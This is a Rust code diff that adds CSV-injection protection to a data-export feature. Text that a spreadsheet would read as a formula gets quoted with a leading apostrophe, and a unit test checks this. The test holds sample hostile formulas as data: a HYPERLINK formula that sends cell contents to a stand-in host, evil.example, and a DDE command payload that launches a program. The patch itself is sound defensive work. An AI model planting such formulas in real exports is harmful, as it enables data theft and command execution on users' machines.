@@ -17,6 +17,12 @@ pub enum ExportFormat {
     /// One JSON object per line; nulls kept, JSON columns nested.
     Ndjson,
     /// RFC 4180 CSV with a header line; nulls as empty fields, JSON columns as JSON text.
+    ///
+    /// Safe to open in a spreadsheet: a text value that starts with `=`, `+`, `-`, `@`, a tab
+    /// or a carriage return, which a spreadsheet would take for a formula (a client's
+    /// `User-Agent: =HYPERLINK(…)`, say), is written quoted with a `'` in front, as OWASP
+    /// advises against CSV injection. Strip that one `'` to get the stored value back;
+    /// [`Ndjson`](Self::Ndjson) keeps every value as stored.
     Csv,
 }
 
@@ -260,7 +266,7 @@ impl Export {
                     }
                     match value {
                         Value::Null => {}
-                        Value::String(text) => csv_field(text, buf),
+                        Value::String(text) => csv_text(text, buf),
                         other => csv_field(&other.to_string(), buf),
                     }
                 }
@@ -471,9 +477,45 @@ fn csv_field(text: &str, buf: &mut Vec<u8>) {
     }
 }
 
+/// Appends a stored text value as one CSV field. One that a spreadsheet would evaluate as a
+/// formula gets a `'` in front, and quotes, so that it is shown as text: the values come from
+/// clients (paths, queries, user agents, bodies, errors).
+fn csv_text(text: &str, buf: &mut Vec<u8>) {
+    if text.starts_with(['=', '+', '-', '@', '\t', '\r']) {
+        buf.extend_from_slice(b"\"'");
+        buf.extend_from_slice(text.replace('"', "\"\"").as_bytes());
+        buf.push(b'"');
+    } else {
+        csv_field(text, buf);
+    }
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn text_a_spreadsheet_would_evaluate_is_neutralized() {
+        let field = |text: &str| {
+            let mut buf = Vec::new();
+            csv_text(text, &mut buf);
+            String::from_utf8(buf).unwrap_or_default()
+        };
+        assert_eq!(
+            field(r#"=HYPERLINK("http://evil.example/?"&A1,"click")"#),
+            r#""'=HYPERLINK(""http://evil.example/?""&A1,""click"")""#
+        );
+        assert_eq!(field("+cmd|' /C calc'!A0"), "\"'+cmd|' /C calc'!A0\"");
+        assert_eq!(field("-2+3"), "\"'-2+3\"");
+        assert_eq!(field("@SUM(1,1)"), "\"'@SUM(1,1)\"");
+        assert_eq!(field("\t=1"), "\"'\t=1\"");
+        assert_eq!(field("\r=1"), "\"'\r=1\"");
+        // Anything else is written as before.
+        assert_eq!(field("/orders/1"), "/orders/1");
+        assert_eq!(field("a=b"), "a=b");
+        assert_eq!(field(" =1"), " =1");
+        assert_eq!(field("x,y"), "\"x,y\"");
+    }
 
     #[test]
     fn csv_fields_are_quoted_when_needed() {
